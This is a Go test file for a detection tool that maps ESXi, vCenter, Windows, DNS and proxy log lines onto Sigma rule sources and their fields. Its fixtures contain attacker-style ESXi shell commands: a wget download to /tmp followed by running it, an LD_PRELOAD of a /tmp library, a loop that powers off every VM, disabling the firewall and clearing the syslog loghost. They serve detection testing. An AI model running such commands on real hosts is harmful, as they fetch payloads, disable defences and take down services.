package source_test

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/vegress/vegress/analytics/sigma/source"
	table "github.com/vegress/vegress/configs/sigma"
	"github.com/vegress/vegress/event"
	"github.com/vegress/vegress/syslog"
	"github.com/vegress/vegress/vsphere"
	"github.com/vegress/vegress/vsphere/esxi"
	"github.com/vegress/vegress/vsphere/proxy"
	"github.com/vegress/vegress/vsphere/resolver"
	"github.com/vegress/vegress/vsphere/vcenter"
)

func builtin(t testing.TB) *source.Table {
	t.Helper()
	builtin, err := source.Load(table.Files)
	if err != nil {
		t.Fatal(err)
	}
	return builtin
}

var decoder = vsphere.NewDecoder(
	vsphere.Programs(esxi.Recognizers(), vcenter.Recognizers(), resolver.Recognizers(), proxy.Recognizers()),
	vsphere.Options{Replay: true})

// decode makes an event of a syslog line as the service does.
func decode(line string) *event.Event {
	var m syslog.Message
	p := syslog.Parser{Reference: time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC)}
	p.Parse(line, &m)
	ev := new(event.Event)
	decoder.Decode(&m, ev)
	return ev
}

func names(t *source.Table, ids []source.ID) string {
	all := t.Sources()
	list := make([]string, len(ids))
	for i, id := range ids {
		list[i] = all[id].String()
	}
	return strings.Join(list, " ")
}

func TestSources(t *testing.T) {
	tests := []struct{ line, want string }{
		{"<110>2026-11-02T09:15:01.120Z esx01 shell[2101]: [root]: esxcli vm process list", "linux/process_creation/- vmware_esxi/-/shell vmware_esxi/administration/- vmware_esxi/process_creation/-"},
		{"<14>2026-11-02T09:15:01.120Z esx01 shell[2101]: Interactive shell session started", "linux/process_creation/- vmware_esxi/-/shell vmware_esxi/administration/- vmware_esxi/process_creation/-"},
		{"<14>2026-11-02T09:15:01.120Z esx01 vobd: [GenericCorrelator] 87us: [esx.audit.ssh.enabled] SSH access has been enabled.", "vmware_esxi/-/vobd vmware_esxi/administration/-"},
		{"<166>2026-11-02T09:15:01.120Z esx01 Hostd: info hostd[2099] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event 91 : User root@192.0.2.7 logged in as pyvmomi", "vmware_esxi/-/hostd vmware_esxi/administration/-"},
		{"<166>2026-11-02T09:15:01.120Z esx01 Vpxa: info vpxa[2099] [Originator@6876 sub=vpxLro] [VpxLRO] -- FINISH lro-9", "vmware_esxi/-/vpxa vmware_esxi/administration/-"},
		{"<86>2026-11-02T09:15:01.120Z esx01 sshd[99]: Accepted publickey for root from 192.0.2.7 port 50311 ssh2", "linux/-/sshd vmware_esxi/-/auth vmware_esxi/administration/-"},
		{"<181>2026-11-02T09:15:01.120Z esx01 vmkernel: cpu3:2097)Tcpip: 14: up", "vmware_esxi/-/vmkernel"},
		{"<13>2026-11-02T09:15:01.120Z esx01 FIREWALL-PKTLOG: 5a3c11d0 INET match PASS 1031 OUT 60 TCP 192.0.2.5/32808->203.0.113.7/443 S", "-/firewall/- vmware_esxi/-/dfw"},
		{"<14>1 2026-11-02T09:15:01.120Z vc01 vpxd 58 - - Event [57] [1-1] [2026-11-02T09:15:01.1Z] [vim.event.VmPoweredOffEvent] [info] [CORP\\jane] [DC] [57] [app01 on esx01 in DC is powered off]", "vmware_vcenter/-/event"},
		{"<14>1 2026-11-02T09:15:01.120Z vc01 vpxd 58 - - 2026-11-02T09:15:01.1Z info vpxd[58] [Originator@6876 sub=vpxLro opID=a] [VpxLRO] -- FINISH lro-9", "vmware_vcenter/-/vpxd"},
		{"<30>Nov  2 09:15:01 ns1 dnsmasq[44]: query[A] www.example.com from 192.0.2.9", "-/dns/-"},
		{"<30>Nov  2 09:15:01 px1 squid: 1764000000.123 180 192.0.2.9 TCP_MISS/200 5120 GET http://www.example.com/a - HIER_DIRECT/203.0.113.40 text/html", "-/proxy/-"},
		{"<30>Nov  2 09:15:01 box frobnicated: nothing of note", ""},
	}
	all := builtin(t)
	view := all.NewView()
	for _, tt := range tests {
		ids := view.Look(decode(tt.line))
		got := strings.Split(names(all, ids), " ")
		slices.Sort(got)
		if strings.Join(got, " ") != tt.want {
			t.Errorf("%s\n got %q\nwant %q", tt.line, strings.Join(got, " "), tt.want)
		}
	}
}

func TestSelect(t *testing.T) {
	all := builtin(t)
	tests := []struct {
		rule source.Source
		want string
	}{
		{source.Source{Product: "vmware_esxi", Service: "shell"}, "vmware_esxi/-/shell"},
		{source.Source{Product: "windows", Category: "process_creation"}, "windows/process_creation/- windows/process_creation/sysmon"},
		{source.Source{Category: "dns"}, "-/dns/-"},
		{source.Source{Category: "dns", Product: "windows"}, ""},
		{source.Source{Product: "aws", Service: "cloudtrail"}, ""},
	}
	for _, tt := range tests {
		got := strings.Split(names(all, all.Select(tt.rule)), " ")
		slices.Sort(got)
		if strings.Join(got, " ") != tt.want {
			t.Errorf("%v: got %q, want %q", tt.rule, got, tt.want)
		}
	}
}

// values gives the fields of an event for a rule's log source, by name.
func values(t testing.TB, all *source.Table, ev *event.Event, rule source.Source) map[string][]string {
	t.Helper()
	view, found := all.NewView(), map[string][]string{}
	for _, id := range view.Look(ev) {
		if !slices.Contains(all.Select(rule), id) {
			continue
		}
		for _, f := range append(slices.Clone(view.Typed(id)), ev.Fields...) {
			found[f.ID.Name()] = append(found[f.ID.Name()], strings.Clone(f.Value))
		}
	}
	return found
}

func TestShellCommands(t *testing.T) {
	tests := []struct{ command, want string }{
		{"esxcli vm process list", "/bin/esxcli"},
		{"/sbin/esxcli vm process list", "/sbin/esxcli"},
		{"./enc -p /vmfs", "/bin/enc"},
		{"cd /tmp && nohup wget http://203.0.113.7/x -O /tmp/x &", "/bin/cd /bin/wget"},
		{"for i in $(vim-cmd vmsvc/getallvms | awk '{print $1}'); do vim-cmd vmsvc/power.off $i; done", "/bin/vim-cmd /bin/awk /bin/vim-cmd"},
		{"echo 'esxcli; reboot' >> /tmp/x", "/bin/echo"},
		{`echo "$(esxcli system version get)"`, "/bin/echo /bin/esxcli"},
		{"LD_PRELOAD=/tmp/x.so vmx --version 2>&1 | tee /tmp/log", "/bin/vmx /bin/tee"},
		{"if [ -f /tmp/x ]; then sh /tmp/x; fi", "/bin/[ /bin/sh"},
		{"esxcli --formatter=csv vm process list | xargs -n1 kill", "/bin/esxcli /bin/-n1"},
		{"", ""},
	}
	all := builtin(t)
	for _, tt := range tests {
		ev := decode("<110>2026-11-02T09:15:01.120Z esx01 shell[2101]: [root]: esxcli vm process list")
		ev.Process.CmdLine, ev.Process.Name, ev.Process.Path = tt.command, "", ""
		got := strings.Join(values(t, all, ev, source.Source{Product: "linux", Category: "process_creation"})["Image"], " ")
		if got != tt.want {
			t.Errorf("%s\n got %q\nwant %q", tt.command, got, tt.want)
		}
	}
}

func TestFields(t *testing.T) {
	line := `<110>2026-11-02T09:15:01.120Z esx01 shell[2101]: [shell.cmd@6876 subject="root" object="shell" command="wget http://203.0.113.7/x" result="success" status="0"]`
	got := values(t, builtin(t), decode(line), source.Source{Product: "linux", Category: "process_creation"})
	for name, want := range map[string]string{
		"CommandLine": "wget http://203.0.113.7/x", "Image": "/bin/wget", "User": "root", "ParentImage": "/bin/sh",
		"ParentProcessId": "2101", "ProcessId": "", "result": "success", "Operation": "",
	} {
		if strings.Join(got[name], ",") != want {
			t.Errorf("%s: got %q, want %q", name, got[name], want)
		}
	}
}

// Sysmon and the log of Windows itself say the same under different names; a
// null stays a null, and what is not there is absent.
func TestPresentNullAbsent(t *testing.T) {
	var ev event.Event
	err := source.ReadJSON([]byte(`{"Event": {"System": {"Channel": "Security", "EventID": {"#text": 4688, "#attributes": {"Qualifiers": ""}}, "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}}},
		"EventData": {"NewProcessName": "C:\\Windows\\System32\\curl.exe", "CommandLine": "", "ParentProcessName": null, "Data": ["a", "b"]}}}`), &ev)
	if err != nil {
		t.Fatal(err)
	}
	all := builtin(t)
	view := all.NewView()
	ids := view.Look(&ev)
	if got := names(all, ids); got != "windows/process_creation/- windows/-/security" {
		t.Fatalf("sources: %s", got)
	}
	tests := []struct {
		name  string
		want  string
		kind  event.Kind
		found bool
	}{
		{"Image", `C:\Windows\System32\curl.exe`, event.KindString, true},
		{"CommandLine", "", event.KindString, true},
		{"ParentImage", "", event.KindNull, true},
		{"User", "", 0, false},
		{"Provider_Name", "Microsoft-Windows-Security-Auditing", event.KindString, true},
		{"EventID", "4688", event.KindNumber, true},
		{"Data", "a", event.KindString, true},
	}
	for _, tt := range tests {
		f, found := view.Value(ids[0], tt.name)
		if f.Value != tt.want || f.Kind != tt.kind || found != tt.found {
			t.Errorf("%s: got %q kind %d %v, want %q kind %d %v", tt.name, f.Value, f.Kind, found, tt.want, tt.kind, tt.found)
		}
	}
}

// A Sysmon record has "-" for the destination's name. The name that vegress
// learned stands beside it.
func TestLearnedName(t *testing.T) {
	var ev event.Event
	if err := source.ReadJSON([]byte(`{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": "3", "DestinationHostname": "-"}`), &ev); err != nil {
		t.Fatal(err)
	}
	ev.Dst.Hostname = "pastebin.com"
	got := values(t, builtin(t), &ev, source.Source{Product: "windows", Category: "network_connection"})
	if strings.Join(got["DestinationHostname"], " ") != "pastebin.com -" {
		t.Errorf("got %q", got["DestinationHostname"])
	}
}

func TestLoadRefuses(t *testing.T) {
	tests := []struct{ file, want string }{
		{"product: [", "a.yml: line 1"},
		{"prodct: x", "a.yml: unmarshal errors:\n  line 1: field prodct not found"},
		{"sources:\n- {when: {log: x}}", "a.yml:2: the source has no product, category or service"},
		{"product: p\nsources:\n- {service: s}", "a.yml:3: source p/-/s: when is missing"},
		{"product: p\nsources:\n- {service: s, when: {}}", "a.yml:3: source p/-/s: when needs a log, a class or a field"},
		{"product: p\nsources:\n- {service: s, when: {class: nonsense}}", `class "nonsense" is not known`},
		{"product: p\nsources:\n- {service: s, when: {class: dns_activity, activity: launch}}", `activity "launch" is none of class "dns_activity"`},
		{"product: p\nsources:\n- {service: s, when: {log: x, direction: up}}", `direction "up" is not`},
		{"product: p\nsources:\n- {service: s, when: {log: x, hass: y}}", `line 3: key "hass" is not one of log, class`},
		{"product: p\nsources:\n- {service: s, whenn: {log: x}}", `line 3: key "whenn" is not one of`},
		{"product: p\nfields: {Image: process.nothing}\nsources:\n- {service: s, when: {log: x}}", `a.yml:4: source p/-/s: field Image: "process.nothing" is not a path`},
		{"product: p\nsources:\n- {service: s, when: {log: x}}\n- {service: s, when: {log: y}}", "a.yml:4: source p/-/s stands at a.yml:3, too"},
	}
	for _, tt := range tests {
		_, err := source.Load(fstest.MapFS{"a.yml": {Data: []byte(tt.file)}})
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s\n got %v\nwant %s", tt.file, err, tt.want)
		}
	}
}

// A user's file replaces a source of ours, whole, and adds others.
func TestUserTable(t *testing.T) {
	all, err := source.Load(table.Files, fstest.MapFS{
		"mine.yml": {Data: []byte("product: vmware_esxi\nsources:\n- {service: shell, when: {log: myshell}, fields: {Who: user.name}}\n- {product: acme, service: till, when: {log: till, field: {kind: [a, b]}}}")},
		"notes.md": {Data: []byte("not a table")},
	})
	if err != nil {
		t.Fatal(err)
	}
	view := all.NewView()
	look := func(ev *event.Event) string { return names(all, view.Look(ev)) }
	if got := look(&event.Event{LogName: "shell"}); got != "vmware_esxi/administration/-" {
		t.Errorf("shell: %q", got)
	}
	if got := look(&event.Event{LogName: "myshell"}); got != "vmware_esxi/-/shell" {
		t.Errorf("myshell: %q", got)
	}
	ev := event.Event{LogName: "till"}
	ev.Add(event.Intern("kind"), "c")
	if got := look(&ev); got != "" {
		t.Errorf("till c: %q", got)
	}
	ev.Fields[0].Value = "b"
	if got := look(&ev); got != "acme/-/till" {
		t.Errorf("till b: %q", got)
	}
}

func TestOnly(t *testing.T) {
	all := builtin(t)
	ev := decode("<110>2026-11-02T09:15:01.120Z esx01 shell[2101]: [root]: esxcli vm process list")
	ids := slices.Clone(all.NewView().Look(ev))
	if len(ids) < 3 {
		t.Fatalf("of %d sources", len(ids))
	}
	view := all.Only(map[source.ID][]string{ids[0]: {"Image", "User"}, ids[2]: {"Image"}}).NewView()
	if got, want := view.Look(ev), []source.ID{ids[0], ids[2]}; !slices.Equal(got, want) {
		t.Errorf("looks at %v, want %v", got, want)
	}
	for id, want := range map[source.ID]int{ids[0]: 2, ids[2]: 1} {
		if got := view.Typed(id); len(got) != want {
			t.Errorf("%s: got %v, want %d fields", all.Sources()[id], got, want)
		}
	}
}

func TestNoAllocations(t *testing.T) {
	all := builtin(t)
	view := all.NewView()
	events := []*event.Event{
		decode("<110>2026-11-02T09:15:01.120Z esx01 shell[2101]: [root]: for i in $(esxcli vm process list); do esxcli vm process kill -w $i; done"),
		decode("<13>2026-11-02T09:15:01.120Z esx01 FIREWALL-PKTLOG: 5a3c11d0 INET TERM PASS 1031 OUT TCP FIN 192.0.2.5/32808->203.0.113.7/443 9/8 1461/4677"),
		{LogName: "Microsoft-Windows-Sysmon/Operational", Fields: []event.Field{{ID: event.Intern("EventID"), Value: "3"}}, User: event.User{Name: "jane", Domain: "CORP"}},
		{Class: event.DNSActivity, DNS: event.DNS{Query: "www.example.com", Answers: []netip.Addr{netip.MustParseAddr("2001:db8::7")}}},
	}
	run := func() {
		for _, ev := range events {
			for _, id := range view.Look(ev) {
				view.Typed(id)
			}
		}
	}
	run()
	if n := testing.AllocsPerRun(200, run); n != 0 {
		t.Errorf("%v allocations", n)
	}
}

func BenchmarkTyped(b *testing.B) {
	all := builtin(b)
	view := all.NewView()
	for _, line := range []string{
		"<110>2026-11-02T09:15:01.120Z esx01 shell[2101]: [root]: esxcli system syslog config set --loghost=''",
		"<13>2026-11-02T09:15:01.120Z esx01 FIREWALL-PKTLOG: 5a3c11d0 INET TERM PASS 1031 OUT TCP FIN 192.0.2.5/32808->203.0.113.7/443 9/8 1461/4677",
	} {
		ev := decode(line)
		b.Run(ev.LogName, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				for _, id := range view.Look(ev) {
					view.Typed(id)
				}
			}
		})
	}
}

func ExampleView() {
	all, err := source.Load(table.Files)
	if err != nil {
		panic(err)
	}
	ev := event.Event{LogName: "shell", Class: event.ProcessActivity, Activity: event.ProcessLaunch}
	ev.Process.CmdLine = "esxcli network firewall set --enabled false"
	view := all.NewView()
	for _, id := range view.Look(&ev) {
		image, _ := view.Value(id, "Image")
		fmt.Println(all.Sources()[id], image.Value)
	}
	// Output:
	// linux/process_creation/- /bin/esxcli
	// vmware_esxi/administration/- /bin/esxcli
	// vmware_esxi/process_creation/- /bin/esxcli
	// vmware_esxi/-/shell /bin/esxcli
}

func FuzzReadJSON(f *testing.F) {
	f.Add([]byte(`{"Event":{"System":{"EventID":1,"Provider":{"#attributes":{"Name":"x"}}},"EventData":{"Data":["a",null,true]}}}`))
	f.Add([]byte(`{"a":{"b":{"c":[[[1]]]}}}`))
	f.Fuzz(func(t *testing.T, record []byte) {
		var ev event.Event
		if source.ReadJSON(record, &ev) == nil && len(ev.Fields) > len(record) {
			t.Errorf("%d fields of %d bytes", len(ev.Fields), len(record))
		}
	})
}
